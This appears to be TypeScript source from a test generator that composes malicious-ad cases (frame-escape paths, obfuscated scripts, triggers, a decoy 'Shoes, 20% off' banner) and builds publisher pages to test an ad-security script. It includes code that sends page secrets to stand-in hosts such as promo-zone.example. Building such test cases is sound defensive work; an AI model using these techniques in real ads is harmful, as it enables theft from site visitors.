import { type Random, randomFrom, randomOf } from '../random.ts'
import type { Carrier } from './carrier.ts'
import { carriers } from './carriers.ts'
import type { CaseContext, Files } from './case-context.ts'
import { quote } from './case-context.ts'
import { type Delivery, deliver, isInBid, isInPage, selectDeliveries } from './deliveries.ts'
import type { Effect } from './effects/effect.ts'
import { effects } from './effects/index.ts'
import { type Encoding, encodings, type Transport, transports } from './exfiltration.ts'
import { type Obfuscation, obfuscations } from './obfuscations.ts'
import { publisherPage } from './page.ts'
import { type Trigger, triggers } from './triggers.ts'

/** The parts of an attack by name. Unlike a seed and index, names stay valid when the grammar changes. */
export interface Parts {
  attackClass: string
  effect: string
  trigger: string
  carrier: string
  obfuscation: string
  delivery: Delivery
  slot: string
  path: string
  transport: string
  encoding: string
  /** Seed for random details of the parts. */
  detail: number
}

const partNames = [
  'attackClass',
  'effect',
  'trigger',
  'carrier',
  'obfuscation',
  'delivery',
  'slot',
  'path',
  'transport',
  'encoding',
  'detail',
] as const satisfies readonly (keyof Parts)[]

/** Formats a case as one line. */
export const formatParts = (parts: Parts) => partNames.map((name) => parts[name]).join(' | ')
export function parseParts(line: string): Parts {
  const values = line.split(' | ')
  const parts = Object.fromEntries(partNames.map((name, index) => [name, values[index]]))
  return { ...parts, detail: Number(parts.detail) } as Parts // written by `formatParts`
}

export interface Attack {
  index: number
  parts: Parts
  effect: Effect
  trigger: Trigger
  carrier: Carrier
  obfuscation: Obfuscation
  transport: Transport
  encoding: Encoding
}

const slots = ['div-gpt-ad-1700000000000-0', 'div-gpt-ad-side', 'slot', 'c7', 'right-column']
/** Ways from the ad's window to the page's. */
const paths = [
  'top',
  'window.top',
  'self.top',
  'parent.top',
  "window['to'+'p']",
  'globalThis.top',
  'document.defaultView.top',
  "Reflect.get(window,'top')",
  '(function(w){while(w!==w.parent)w=w.parent;return w})(window)',
  "Function('return top')()",
]
const origins = [
  'http://promo-zone.example',
  'http://cdn-stat.example',
  'http://go-deals.example',
  'http://static.quickload.example',
]

export interface AttackFilter {
  attackClass?: string | undefined
  delivery?: string | undefined
  effect?: string | undefined
  trigger?: string | undefined
  carrier?: string | undefined
  /** Exact name of an effect. */
  exactEffect?: string
}

/** Composes the attack of a seed with the given index. */
export function composeAttack(seed: number, index: number, filter: AttackFilter = {}): Attack {
  const random = randomOf(seed, index)
  const isSelected = ({ attackClass, name }: Effect) =>
    (!filter.attackClass || attackClass === filter.attackClass) &&
    (!filter.effect || name.includes(filter.effect)) &&
    (!filter.exactEffect || name === filter.exactEffect)
  const selected = effects.filter(isSelected)
  // All classes are equally likely, independent of their number of effects.
  const attackClass = random.pick([...new Set(selected.map((effect) => effect.attackClass))])
  const effect = random.pick(selected.filter((one) => one.attackClass === attackClass))
  const delivery = random.pick(selectDeliveries(filter.delivery).filter((name) => isDeliverable(effect, name)))
  const trigger = random.pick(
    triggers.filter((one) => (!filter.trigger || one.name === filter.trigger) && isTriggerFit(effect, one, delivery)),
  )
  const carrier = random.pick(
    carriers.filter(
      (one) => (!filter.carrier || one.name === filter.carrier) && isCarrierFit(effect, one, delivery, trigger),
    ),
  )
  const obfuscation = random.pick(obfuscations.filter(({ name }) => !(carrier.isStrict && name === 'with-proxy')))
  const transport = random.pick(transports)
  const encoding = random.pick(encodings)
  const parts: Parts = {
    attackClass,
    effect: effect.name,
    trigger: trigger.name,
    carrier: carrier.name,
    obfuscation: obfuscation.name,
    delivery,
    slot: random.pick(slots),
    path: random.pick(paths),
    transport: transport.name,
    encoding: encoding.name,
    detail: random.below(2 ** 31),
  }
  return { index, parts, effect, trigger, carrier, obfuscation, transport, encoding }
}

const isDeliverable = (effect: Effect, delivery: Delivery) => !(effect.isFrameOnly && isInPage(delivery))

function isTriggerFit(effect: Effect, trigger: Trigger, delivery: Delivery) {
  if (effect.needsActivation) return trigger.activates === true && trigger.act !== 'click-ad'
  if (trigger.act === 'click-ad') return effect.isNeverAllowed === true && !effect.isEarly
  // Scrolling changes the picture of the page.
  if (trigger.act === 'scroll' && effect.sign === 'covered') return false
  if (trigger.act === 'key') return !effect.isEarly
  return !(isInPage(delivery) && trigger.name === 'own-message' && effect.isEarly)
}

function isCarrierFit(effect: Effect, carrier: Carrier, delivery: Delivery, trigger: Trigger) {
  if (carrier.isFrameOnly && isInPage(delivery)) return false
  if (effect.isInPlace && (carrier.isPageRealm || carrier.isNested)) return false
  // In the page's realm there is no separate ad to click.
  return !(trigger.act === 'click-ad' && (carrier.isPageRealm || carrier.isNested))
}

/** Creates an attack from the names of its parts. */
export function createAttack(parts: Parts, index = 0): Attack {
  const findNamed = <Item extends { name: string }>(items: readonly Item[], name: string) => {
    const item = items.find((one) => one.name === name)
    if (!item) throw new Error(`the grammar has no ${name} any more`)
    return item
  }
  return {
    index,
    parts,
    effect: findNamed(
      effects.filter(({ attackClass }) => attackClass === parts.attackClass),
      parts.effect,
    ),
    trigger: findNamed(triggers, parts.trigger),
    carrier: findNamed(carriers, parts.carrier),
    obfuscation: findNamed(obfuscations, parts.obfuscation),
    transport: findNamed(transports, parts.transport),
    encoding: findNamed(encodings, parts.encoding),
  }
}

export interface BuiltCase {
  token: string
  /** A value in the page's cookie, storage, fields and text. */
  secret: string
  html: string
  files: Files
}

/** Builds the page and files for one run of an attack. `tag` is the script under test, or ''. */
export function buildAttack(attack: Attack, token: string, tag: string): BuiltCase {
  const { parts, effect, trigger, carrier, obfuscation, transport, encoding } = attack
  const random = randomFrom(parts.detail)
  const secret = createSecret(token)
  const { at: context, files } = createContext({
    token,
    secret,
    random,
    transport,
    encoding,
    isInPage: isInPage(parts.delivery),
  })
  const body = effect.code(context)
  const code = `var W=${parts.path},D=W.document,S=document.getElementById(${quote(parts.slot)})||document.body||document.documentElement;function F(){try{${body}}finally{console.debug('k:${token}')}}${trigger.code(context)}`
  const markup = `${adPicture(random)}${carrier.markup(obfuscation.code(code, random), context)}`
  const { inSlot, after } = deliver(parts.delivery, markup, { slotId: parts.slot, tag }, context)
  return {
    token,
    secret,
    html: publisherPage({
      token,
      secret,
      tag: isInBid(parts.delivery) ? '' : tag,
      slotId: parts.slot,
      inSlot,
      after,
    }),
    files,
  }
}

/** Lowercase letters and digits, starting with a letter, not derivable from the token. */
export const createSecret = (token: string) =>
  `u${Buffer.from([...token].reverse().join(''))
    .toString('hex')
    .slice(0, 18)}`

interface ContextOptions extends Pick<CaseContext, 'token' | 'secret' | 'random' | 'isInPage'> {
  transport?: Transport
  encoding?: Encoding
}

/** Creates the context for a case and the files it serves. */
export function createContext({ transport, encoding, ...rest }: ContextOptions) {
  const files: Files = new Map()
  const origin = rest.random.pick(origins)
  const context: CaseContext = {
    ...rest,
    origin,
    url: (kind) => `${origin}/${kind}/${rest.token}`,
    file(text, extension) {
      const path = `/f/${rest.token}/${files.size}.${extension}`
      files.set(path, text)
      return `${origin}${path}`
    },
    send(expression) {
      if (!transport || !encoding) throw new Error('only attacks send what they take')
      const value = encoding.browser(`String(${expression})`)
      return `var u=${quote(`${origin}/c/${rest.token}?`)},v=${value};${transport.code(context)}`
    },
  }
  return { at: context, files }
}

/** The visible, honest-looking part of an attack. */
function adPicture(random: Random) {
  const colour = random.pick(['#246', '#083', '#734', '#555'])
  return `<div style="width:300px;height:${random.pick([90, 120])}px;background:${colour};color:#fff">Shoes, 20% off</div>`
}

export const formatTitle = ({ parts }: Attack) =>
  [parts.attackClass, parts.effect, parts.trigger, parts.carrier, parts.obfuscation, parts.delivery, parts.slot]
    .map((part) => part)
    .join(' | ')
